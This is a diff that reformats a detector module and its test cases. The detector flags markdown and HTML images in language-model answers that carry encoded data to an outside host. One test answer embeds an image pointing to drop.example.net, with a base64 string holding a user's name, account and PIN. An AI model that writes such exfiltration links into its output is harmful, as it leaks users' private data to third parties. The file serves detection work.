@@ -31,8 +31,14 @@ from clew.model.finding import Description, Severity
 NEEDS = {"events": ("prompt", "completion")}
 SUBJECT = ("server_address", "user_id")
 MEASURES = (
-    "answers", "images", "users", "longest_data", "coded", "min_data", "usual_users",
-)  # fmt: skip
+    "answers",
+    "images",
+    "users",
+    "longest_data",
+    "coded",
+    "min_data",
+    "usual_users",
+)
 REFERENCES = ("atlas.aml.t0057", "atlas.aml.t0077", "owasp.llm05-2025", "attack.t1567")
 _URL = r"(https?://[^)\s>\"'/?#]+[^)\s>\"'?#]*(?:[?#][^)\s>\"']*=[^)\s>\"'&]{{{most}}}|/[A-Za-z0-9+_=%-]{{40}})[^)\s>\"']*)"
 _IMAGE = r"(?:!\[[^\]\n]*\]\(\s*<?|!\[[^\]\n]*\]:\s*|<img[^>]{0,200}src\s*=\s*[\"']?)"
@@ -128,8 +134,20 @@ _DATA = "bmFtZT1hbm4mYWNjb3VudD00NDExJnBpbj0wMDAw"
 CASES = [
     Case(
         "an image that takes the conversation along",
-        rows=[said(1, "hours?", f"We open at nine. ![s](https://drop.example.net/p.png?d={_DATA})"), said(2, "hi", "hello")],
-        expect=[{"server_address": "drop.example.net", "user_id": "ann", "answers": 1, "images": 1, "coded": 1, "longest_data": 42}],
+        rows=[
+            said(1, "hours?", f"We open at nine. ![s](https://drop.example.net/p.png?d={_DATA})"),
+            said(2, "hi", "hello"),
+        ],
+        expect=[
+            {
+                "server_address": "drop.example.net",
+                "user_id": "ann",
+                "answers": 1,
+                "images": 1,
+                "coded": 1,
+                "longest_data": 42,
+            }
+        ],
     ),
     Case(
         "HTML and a link, in capitals and with a port",
@@ -139,16 +157,45 @@ CASES = [
         ],
         expect=[{"server_address": "drop.example.net", "answers": 2, "images": 1}],
     ),
-    Case("a plain picture and a plain link carry nothing", rows=[said(1, "a", "![logo](https://cdn.example.com/logo.png) [docs](https://docs.example.com/a?page=2)")], expect=[]),
-    Case("a host that the user named", rows=[said(1, "Make a link for shop.example.org", "[x](https://shop.example.org/?session=0123456789abcdef)")], expect=[]),
+    Case(
+        "a plain picture and a plain link carry nothing",
+        rows=[
+            said(
+                1,
+                "a",
+                "![logo](https://cdn.example.com/logo.png) [docs](https://docs.example.com/a?page=2)",
+            )
+        ],
+        expect=[],
+    ),
+    Case(
+        "a host that the user named",
+        rows=[
+            said(
+                1,
+                "Make a link for shop.example.org",
+                "[x](https://shop.example.org/?session=0123456789abcdef)",
+            )
+        ],
+        expect=[],
+    ),
     Case(
         "a host of many users' answers is the application's own",
-        rows=[said(n, "map?", f"![map](https://maps.example.com/m?at=52.5200,13.4050,{n:06})", user_id=f"u{n}") for n in range(12)],
+        rows=[
+            said(
+                n,
+                "map?",
+                f"![map](https://maps.example.com/m?at=52.5200,13.4050,{n:06})",
+                user_id=f"u{n}",
+            )
+            for n in range(12)
+        ],
         expect=[],
     ),
     Case(
         "a host that is allowed",
         rows=[said(1, "map?", "![map](https://img.maps.example.com/m?at=52.5200,13.4050,7)")],
-        expect=[], options={"allow": "cdn.example.com, maps.example.com"},
+        expect=[],
+        options={"allow": "cdn.example.com, maps.example.com"},
     ),
-]  # fmt: skip
+]
